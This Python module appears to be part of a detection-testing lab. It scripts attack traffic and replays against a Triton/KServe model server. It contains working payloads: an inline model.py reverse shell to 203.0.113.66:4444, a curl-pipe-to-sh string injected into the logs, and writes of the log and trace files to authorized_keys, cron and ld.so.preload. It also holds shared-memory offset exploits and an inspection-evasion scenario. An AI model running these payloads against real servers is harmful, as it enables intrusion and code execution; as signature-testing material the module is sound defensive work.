"""Scenarios against a Triton / KServe v2 model server: extraction by rate, tensor bomb, log-file, trace-file
and model-load abuse, shared-memory offsets, gRPC compression evasion.

Captures: REST through the traffic library's HTTP/1.1 sessions, gRPC through h2 with
tritonclient's protobuf messages (inspector.lab.traffic_triton). Replays: tritonclient.http and
tritonclient.grpc calls, or the generated gRPC stub and raw h2 for what no well-behaved client
sends.
"""

from __future__ import annotations

import gzip
import json

from inspector.lab import network as net
from inspector.lab.h2wire import grpc_frame
from inspector.lab.recorder import Lab
from inspector.lab.replay import Replay
from inspector.lab.scenarios.base import Scenario, Step
from inspector.lab.traffic_http import json_response, request_bytes
from inspector.lab.traffic_triton import (
    GRPC_OK_TRAILERS,
    GRPC_RESPONSE_HEADERS,
    LOG_SETTINGS_ANSWER,
    TRACE_SETTINGS_ANSWER,
    Tensor,
    grpc_infer,
    grpc_log_settings,
    grpc_model_load,
    grpc_model_ready,
    grpc_request_headers,
    grpc_trace_setting,
    model_infer_request,
    model_infer_response,
    rest_error,
    rest_infer,
    rest_logging,
    rest_model_load,
    rest_shm_register,
    rest_trace_setting,
    snappy_literal,
)

FRAUD_MODEL = "fraud-detector"
FEATURES = Tensor(name="INPUT0", shape=(1, 30))
SCORE = Tensor(name="OUTPUT0", shape=(1, 2))
OK = json_response({})

# sids of the shipped pack (signatures/triton, signatures/grpc)
MANAGEMENT_OUTSIDE_ADMIN = 3100001
INFERENCE_RATE = 3100003
LOG_FILE = 3100005
TRACE_FILE = 3100006
SHM_OFFSET = 3100007
MODEL_LOAD_FILES = 3100008
DECLARATION_MISMATCH = 3100009
TENSOR_OVERSIZED = 3100010
UNINSPECTABLE_COMPRESSION = 2200001
MALFORMED_GRPC = 2200003


def _jitter(lab: Lab, seconds: float) -> float:
    return seconds * lab.rng.uniform(0.7, 1.3)


# -- model extraction by rate ----------------------------------------------------------------------

EXTRACTION_CALLS = 150
EXTRACTION_SPACING = 0.2


def _extraction(lab: Lab, start: float) -> None:
    grpc = lab.grpc(net.ATTACKER, net.TRITON, net.TRITON_GRPC, start=start)
    grpc.call(grpc_model_ready(FRAUD_MODEL), event="triton", what=f"ModelReady {FRAUD_MODEL}")
    for n in range(EXTRACTION_CALLS):
        grpc.wait(_jitter(lab, EXTRACTION_SPACING))
        grpc.call(grpc_infer(FRAUD_MODEL, [FEATURES], [SCORE], request_id=f"q{n:04d}"), event="triton",
                  step="query-flood", what=f"ModelInfer {FRAUD_MODEL} #{n + 1}")
    grpc.close()


def _extraction_replay(replay: Replay) -> None:
    import numpy as np

    if replay.transport == "grpc":
        from tritonclient import grpc as client_module
    else:
        from tritonclient import http as client_module
    client = replay.triton()
    replay.attempt(f"model ready {FRAUD_MODEL}", lambda: client.is_model_ready(FRAUD_MODEL))
    for n in range(EXTRACTION_CALLS):
        tensor = client_module.InferInput("INPUT0", list(FEATURES.shape), "FP32")
        tensor.set_data_from_numpy(np.full(FEATURES.shape, n / EXTRACTION_CALLS, dtype=np.float32))
        replay.attempt(f"infer {FRAUD_MODEL} #{n + 1}",
                       lambda tensor=tensor, n=n: client.infer(FRAUD_MODEL, [tensor], request_id=f"q{n:04d}"),
                       step="query-flood")


# -- tensor bomb ---------------------------------------------------------------------------------------

BOMB = Tensor(name="INPUT0", shape=(65536, 65536), sent_elements=4)


def _tensor_bomb(lab: Lab, start: float) -> None:
    rest = lab.http(net.ATTACKER, net.TRITON, net.TRITON_HTTP, start=start)
    rest.exchange(rest_infer("resnet50", [BOMB]), rest_error("unexpected shape for input 'INPUT0'"),
                  event="triton", step="rest", what="POST /v2/models/resnet50/infer declaring [65536, 65536] FP32, "
                  "4 values sent")
    rest.close()
    grpc = lab.grpc(net.ATTACKER, net.TRITON, net.TRITON_GRPC, start=rest.now + _jitter(lab, 1.5))
    grpc.call(grpc_infer("resnet50", [BOMB], error="unexpected total byte size"), event="triton", step="grpc",
              what="ModelInfer resnet50 declaring [65536, 65536] FP32 (16 GiB), 16 bytes sent")
    grpc.close()


def _tensor_bomb_replay(replay: Replay) -> None:
    if replay.transport == "grpc":
        stub = replay.triton_stub()
        replay.attempt("ModelInfer declaring [65536, 65536] FP32, 16 bytes sent",
                       lambda: stub.ModelInfer(model_infer_request("resnet50", [BOMB])), step="grpc")
    else:
        replay.attempt("POST /v2/models/resnet50/infer declaring [65536, 65536] FP32",
                       lambda: replay.send_http(rest_infer("resnet50", [BOMB])), step="rest")


# -- log file redirect (CVE-2024-0087) ---------------------------------------------------------------

LOG_TARGET = "/root/.bashrc"
TRIGGER_PATH = "/v2/models/%24%28curl%20-s%20http%3A%2F%2F203.0.113.66%2Fx.sh%7Csh%29/ready"


def _log_file(lab: Lab, start: float) -> None:
    rest = lab.http(net.ATTACKER, net.TRITON, net.TRITON_HTTP, start=start)
    rest.exchange(rest_logging(None), json_response(LOG_SETTINGS_ANSWER), event="triton",
                  what="GET /v2/logging (reconnaissance)")
    rest.wait(_jitter(lab, 2.0))
    rest.exchange(rest_logging({"log_file": LOG_TARGET, "log_info": True, "log_verbose_level": 1}),
                  json_response({**LOG_SETTINGS_ANSWER, "log_file": LOG_TARGET}), event="triton", step="redirect-rest",
                  what=f"POST /v2/logging log_file={LOG_TARGET}")
    rest.wait(_jitter(lab, 1.0))
    rest.exchange(request_bytes("GET", TRIGGER_PATH, "triton:8000"),
                  rest_error("Request for unknown model: '$(curl -s http://203.0.113.66/x.sh|sh)' is not found", 404),
                  event="triton", step="trigger", what="GET /v2/models/$(curl ... | sh)/ready: a payload into the log")
    rest.close()
    grpc = lab.grpc(net.ATTACKER, net.TRITON, net.TRITON_GRPC, start=rest.now + _jitter(lab, 3.0))
    grpc.call(grpc_log_settings({"log_file": "/etc/cron.d/triton"}), event="triton", step="redirect-grpc",
              what="LogSettings log_file=/etc/cron.d/triton")
    grpc.close()


def _log_file_replay(replay: Replay) -> None:
    client = replay.triton()
    if replay.transport == "grpc":
        replay.attempt("LogSettings log_file=/etc/cron.d/triton",
                       lambda: client.update_log_settings({"log_file": "/etc/cron.d/triton"}), step="redirect-grpc")
        return
    replay.attempt("GET /v2/logging", lambda: client.get_log_settings())
    replay.attempt(f"POST /v2/logging log_file={LOG_TARGET}",
                   lambda: client.update_log_settings({"log_file": LOG_TARGET, "log_info": True,
                                                       "log_verbose_level": 1}), step="redirect-rest")
    replay.attempt("GET /v2/models/$(curl ... | sh)/ready",
                   lambda: replay.send_http(request_bytes("GET", TRIGGER_PATH, "triton:8000")), step="trigger")


# -- trace file write (CVE-2024-0100) ----------------------------------------------------------------


def _trace_file(lab: Lab, start: float) -> None:
    rest = lab.http(net.COMPROMISED_APP, net.TRITON, net.TRITON_HTTP, start=start)
    rest.exchange(rest_trace_setting({"trace_file": "/root/.ssh/authorized_keys", "trace_level": ["TIMESTAMPS"],
                                      "trace_rate": "1"}, model=FRAUD_MODEL),
                  json_response({**TRACE_SETTINGS_ANSWER, "trace_file": "/root/.ssh/authorized_keys"}),
                  event="triton", step="trace-rest", what="POST /v2/models/fraud-detector/trace/setting "
                  "trace_file=/root/.ssh/authorized_keys")
    rest.close()
    grpc = lab.grpc(net.COMPROMISED_APP, net.TRITON, net.TRITON_GRPC, start=rest.now + _jitter(lab, 2.0))
    grpc.call(grpc_trace_setting({"trace_file": ["/etc/ld.so.preload"], "trace_level": ["TIMESTAMPS"]}),
              event="triton", step="trace-grpc", what="TraceSetting trace_file=/etc/ld.so.preload")
    grpc.close()


def _trace_file_replay(replay: Replay) -> None:
    client = replay.triton()
    if replay.transport == "grpc":
        replay.attempt("TraceSetting trace_file=/etc/ld.so.preload",
                       lambda: client.update_trace_settings(settings={"trace_file": "/etc/ld.so.preload",
                                                                      "trace_level": ["TIMESTAMPS"]}),
                       step="trace-grpc")
    else:
        replay.attempt("POST trace/setting trace_file=/root/.ssh/authorized_keys",
                       lambda: client.update_trace_settings(FRAUD_MODEL, {"trace_file": "/root/.ssh/authorized_keys",
                                                                          "trace_level": ["TIMESTAMPS"],
                                                                          "trace_rate": "1"}),
                       step="trace-rest")


# -- model load with inline files ---------------------------------------------------------------------

PYTHON_CONFIG = {"name": "metrics-exporter", "backend": "python", "max_batch_size": 0,
                 "input": [{"name": "IN", "data_type": "TYPE_STRING", "dims": [1]}],
                 "output": [{"name": "OUT", "data_type": "TYPE_STRING", "dims": [1]}]}
MODEL_PY = (b"import socket, subprocess, os\n\nclass TritonPythonModel:\n    def initialize(self, args):\n"
            b"        s = socket.create_connection(('203.0.113.66', 4444))\n"
            b"        subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n")
LOADED_MODEL = "metrics-exporter"


def _model_load(lab: Lab, start: float) -> None:
    grpc = lab.grpc(net.ATTACKER, net.TRITON, net.TRITON_GRPC, start=start)
    grpc.call(grpc_model_load(LOADED_MODEL, config=PYTHON_CONFIG, files={"1/model.py": MODEL_PY}), event="triton",
              step="load-grpc", what="RepositoryModelLoad metrics-exporter with file:1/model.py (reverse shell)")
    grpc.wait(_jitter(lab, 1.0))
    grpc.call(grpc_model_ready(LOADED_MODEL), event="triton", what="ModelReady metrics-exporter")
    grpc.close()
    rest = lab.http(net.ATTACKER, net.TRITON, net.TRITON_HTTP, start=grpc.now + _jitter(lab, 4.0))
    rest.exchange(rest_model_load(LOADED_MODEL, config=PYTHON_CONFIG, files={"1/model.py": MODEL_PY}), OK,
                  event="triton", step="load-rest", what="POST /v2/repository/models/metrics-exporter/load with "
                  "file:1/model.py (base64)")
    rest.close()


def _model_load_replay(replay: Replay) -> None:
    client = replay.triton()
    step = "load-grpc" if replay.transport == "grpc" else "load-rest"
    replay.attempt("load metrics-exporter with file:1/model.py",
                   lambda: client.load_model(LOADED_MODEL, config=json.dumps(PYTHON_CONFIG),
                                             files={"file:1/model.py": MODEL_PY}), step=step)


# -- shared-memory offset (CVE-2024-0088) --------------------------------------------------------------

HUGE_OFFSET = (1 << 64) - 32


def _shm_offset(lab: Lab, start: float) -> None:
    rest = lab.http(net.COMPROMISED_APP, net.TRITON, net.TRITON_HTTP, start=start)
    rest.exchange(rest_shm_register("input0", "/input_shm", HUGE_OFFSET, 64), OK, event="triton", step="register",
                  what="POST /v2/systemsharedmemory/region/input0/register offset 2^64-32")
    rest.close()
    grpc = lab.grpc(net.COMPROMISED_APP, net.TRITON, net.TRITON_GRPC, start=rest.now + _jitter(lab, 1.0))
    tensor = Tensor(name="INPUT0", shape=(1, 4), shm=("input0", HUGE_OFFSET, 16))
    grpc.call(grpc_infer(FRAUD_MODEL, [tensor], [SCORE]), event="triton", step="read",
              what="ModelInfer reading input0 at shared_memory_offset -32")
    grpc.close()


def _shm_offset_replay(replay: Replay) -> None:
    client = replay.triton()
    if replay.transport == "grpc":
        stub = replay.triton_stub()
        tensor = Tensor(name="INPUT0", shape=(1, 4), shm=("input0", HUGE_OFFSET, 16))
        replay.attempt("SystemSharedMemoryRegister offset 2^64-32",
                       lambda: client.register_system_shared_memory("input0", "/input_shm", 64, offset=HUGE_OFFSET),
                       step="register")
        replay.attempt("ModelInfer at shared_memory_offset -32",
                       lambda: stub.ModelInfer(model_infer_request(FRAUD_MODEL, [tensor])), step="read")
        return
    tensor = Tensor(name="INPUT0", shape=(1, 4), shm=("input0", HUGE_OFFSET, 16))
    replay.attempt("register region input0 at offset 2^64-32",
                   lambda: client.register_system_shared_memory("input0", "/input_shm", 64, offset=HUGE_OFFSET),
                   step="register")
    replay.attempt("infer reading input0 at shared_memory_offset -32",
                   lambda: replay.send_http(rest_infer(FRAUD_MODEL, [tensor])), step="read")


# -- gRPC compression evasion ----------------------------------------------------------------------------


def _evasion_bodies() -> tuple[bytes, bytes]:
    """(a ModelInfer message snappy-encoded, the same message gzip'd but flagged on a call with no grpc-encoding)."""
    message = model_infer_request(FRAUD_MODEL, [FEATURES]).SerializeToString(deterministic=True)
    snappy = snappy_literal(message)
    packed = gzip.compress(message, mtime=0)
    return (b"\x01" + len(snappy).to_bytes(4, "big") + snappy,
            b"\x01" + len(packed).to_bytes(4, "big") + packed)


def _infer_answer() -> bytes:
    return grpc_frame(model_infer_response(FRAUD_MODEL, [SCORE]).SerializeToString(deterministic=True))


def _compression_evasion(lab: Lab, start: float) -> None:
    snappy, flagged = _evasion_bodies()
    grpc = lab.grpc(net.ATTACKER, net.TRITON, net.TRITON_GRPC, start=start)
    grpc.raw(grpc_request_headers("ModelInfer", encoding="snappy"), snappy, GRPC_RESPONSE_HEADERS, _infer_answer(),
             GRPC_OK_TRAILERS, event="triton", step="snappy", what="ModelInfer with grpc-encoding snappy")
    grpc.wait(_jitter(lab, 0.5))
    grpc.raw(grpc_request_headers("ModelInfer"), flagged, GRPC_RESPONSE_HEADERS, _infer_answer(), GRPC_OK_TRAILERS,
             event="triton", step="flagged", what="ModelInfer flagged compressed with no grpc-encoding")
    grpc.close()


def _compression_evasion_replay(replay: Replay) -> None:
    snappy, flagged = _evasion_bodies()
    replay.attempt("ModelInfer with grpc-encoding snappy",
                   lambda: replay.h2_call(grpc_request_headers("ModelInfer", encoding="snappy",
                                                               authority=replay.target.authority), snappy),
                   step="snappy")
    replay.attempt("ModelInfer flagged compressed, no grpc-encoding",
                   lambda: replay.h2_call(grpc_request_headers("ModelInfer", authority=replay.target.authority),
                                          flagged), step="flagged")


SCENARIOS = (
    Scenario(
        name="model-extraction-rate", title="Model extraction by query rate (Triton gRPC)",
        description=f"An outside client sends {EXTRACTION_CALLS} ModelInfer calls to one model, about five a "
                    "second: the query volume a surrogate-model extraction needs.",
        atlas=("AML.T0024.002", "AML.T0040", "AML.T0034"),
        steps=(Step(id="query-flood", description=f"{EXTRACTION_CALLS} inferences in ~30 s from one client "
                    "(INFERENCE_RATE_COUNT 100 per 60 s in the lab config)", sids=(INFERENCE_RATE,)),),
        build=_extraction, replay=_extraction_replay, transports=("grpc", "http"),
        span=EXTRACTION_CALLS * EXTRACTION_SPACING + 2),
    Scenario(
        name="tensor-bomb", title="Tensor bomb: a 16 GiB input declared, 16 bytes sent",
        description="Inference requests declaring a [65536, 65536] FP32 input while sending four values, over REST "
                    "and gRPC: the server sizes buffers from the declaration.",
        atlas=("AML.T0029",),
        steps=(Step(id="rest", description="REST infer with the bomb declaration",
                    sids=(DECLARATION_MISMATCH, TENSOR_OVERSIZED)),
               Step(id="grpc", description="gRPC ModelInfer with the bomb declaration",
                    sids=(DECLARATION_MISMATCH, TENSOR_OVERSIZED))),
        build=_tensor_bomb, replay=_tensor_bomb_replay, transports=("http", "grpc"), span=3),
    Scenario(
        name="triton-log-file", title="Triton log file redirected to a shell start-up file (CVE-2024-0087)",
        description="From outside the admin networks: point Triton's log at /root/.bashrc (REST) and "
                    "/etc/cron.d (gRPC), then send a request whose logged error carries a shell payload.",
        atlas=("AML.T0049", "AML.T0050"), cves=("CVE-2024-0087",),
        steps=(Step(id="redirect-rest", description="POST /v2/logging with log_file",
                    sids=(LOG_FILE, MANAGEMENT_OUTSIDE_ADMIN)),
               Step(id="trigger", description="a request whose error line carries $(curl ... | sh); no shipped rule "
                    "reads shell syntax in model names (a known gap)"),
               Step(id="redirect-grpc", description="gRPC LogSettings with log_file",
                    sids=(LOG_FILE, MANAGEMENT_OUTSIDE_ADMIN))),
        build=_log_file, replay=_log_file_replay, transports=("http", "grpc"), span=10),
    Scenario(
        name="triton-trace-file", title="Triton trace file written to arbitrary paths (CVE-2024-0100)",
        description="A compromised application pod sets trace_file to /root/.ssh/authorized_keys (REST) and "
                    "/etc/ld.so.preload (gRPC).",
        atlas=("AML.T0049",), cves=("CVE-2024-0100",),
        steps=(Step(id="trace-rest", description="POST .../trace/setting with trace_file",
                    sids=(TRACE_FILE, MANAGEMENT_OUTSIDE_ADMIN)),
               Step(id="trace-grpc", description="gRPC TraceSetting with trace_file",
                    sids=(TRACE_FILE, MANAGEMENT_OUTSIDE_ADMIN))),
        build=_trace_file, replay=_trace_file_replay, transports=("http", "grpc"), span=4),
    Scenario(
        name="triton-model-load", title="Triton model load with an inline model.py (code execution)",
        description="An outside client loads a python-backend model whose model.py (sent inline as a file: "
                    "override) opens a reverse shell, over gRPC and REST.",
        atlas=("AML.T0010.003", "AML.T0011.000", "AML.T0018.002"),
        steps=(Step(id="load-grpc", description="RepositoryModelLoad with file:1/model.py",
                    sids=(MODEL_LOAD_FILES, MANAGEMENT_OUTSIDE_ADMIN)),
               Step(id="load-rest", description="POST .../load with file:1/model.py",
                    sids=(MODEL_LOAD_FILES, MANAGEMENT_OUTSIDE_ADMIN))),
        build=_model_load, replay=_model_load_replay, transports=("grpc", "http"), span=8),
    Scenario(
        name="shm-offset-abuse", title="Shared-memory offset abuse (CVE-2024-0088)",
        description="A compromised application pod registers a system shared-memory region at offset 2^64-32 "
                    "(REST) and reads an input at offset -32 (gRPC): an out-of-bounds read of server memory.",
        atlas=("AML.T0049", "AML.T0029"), cves=("CVE-2024-0088",),
        steps=(Step(id="register", description="region registered at offset 2^64-32",
                    sids=(SHM_OFFSET, MANAGEMENT_OUTSIDE_ADMIN)),
               Step(id="read", description="ModelInfer input read at offset -32", sids=(SHM_OFFSET,))),
        build=_shm_offset, replay=_shm_offset_replay, transports=("http", "grpc"), span=3),
    Scenario(
        name="grpc-compression-evasion", title="Inspection evasion through gRPC compression",
        description="ModelInfer messages the inspector cannot read: snappy-encoded (an encoding the sidecar does not "
                    "decompress), and gzip'd behind a compressed flag on a call that declared no grpc-encoding.",
        atlas=("AML.T0015",),
        steps=(Step(id="snappy", description="grpc-encoding: snappy", sids=(UNINSPECTABLE_COMPRESSION,)),
               Step(id="flagged", description="compressed flag without grpc-encoding", sids=(MALFORMED_GRPC,))),
        build=_compression_evasion, replay=_compression_evasion_replay, transports=("grpc",), span=2),
)
